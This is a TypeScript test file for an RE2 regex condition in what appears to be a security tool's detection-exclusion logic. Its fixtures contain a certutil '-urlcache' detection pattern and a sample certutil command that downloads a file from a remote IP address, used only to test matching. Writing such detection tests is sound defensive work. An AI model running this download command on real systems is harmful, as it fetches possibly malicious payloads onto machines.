import { describe, expect, it } from 'vitest';
import { checkRe2, re2Condition } from '../../../src/exclusions/conditions/re2Condition.js';

interface Probe {
  text?: string;
}

const condition = re2Condition('text', (p: Probe) => p.text);

describe('checkRe2', () => {
  it('accepts RE2 syntax and refuses backreferences and lookarounds', () => {
    expect(checkRe2('certutil.*-urlcache')).toBeUndefined();
    expect(checkRe2('(a)\\1')).toMatch(/invalid RE2 pattern/);
  });
});

describe('re2Condition', () => {
  it('keeps a valid pattern as written and refuses an invalid one with the parser message', () => {
    expect(condition.parse('-urlcache\\s')).toEqual({ value: '-urlcache\\s' });
    expect(condition.parse('(?=x)')).toEqual({ problem: expect.stringMatching(/^invalid RE2 pattern: /) });
  });

  it('searches the field case-insensitively and does not match a sighting without it', () => {
    const matches = condition.compile('-URLCACHE\\s+-split');
    expect(matches({ text: 'certutil.exe -urlcache -split -f http://45.9.148.3/a' })).toBe(true);
    expect(matches({ text: 'certutil.exe -urlcache -f http://45.9.148.3/a' })).toBe(false);
    expect(matches({})).toBe(false);
  });

  it('describes itself as a pattern', () => {
    expect(condition.describe('a+b')).toBe('text /a+b/');
  });
});
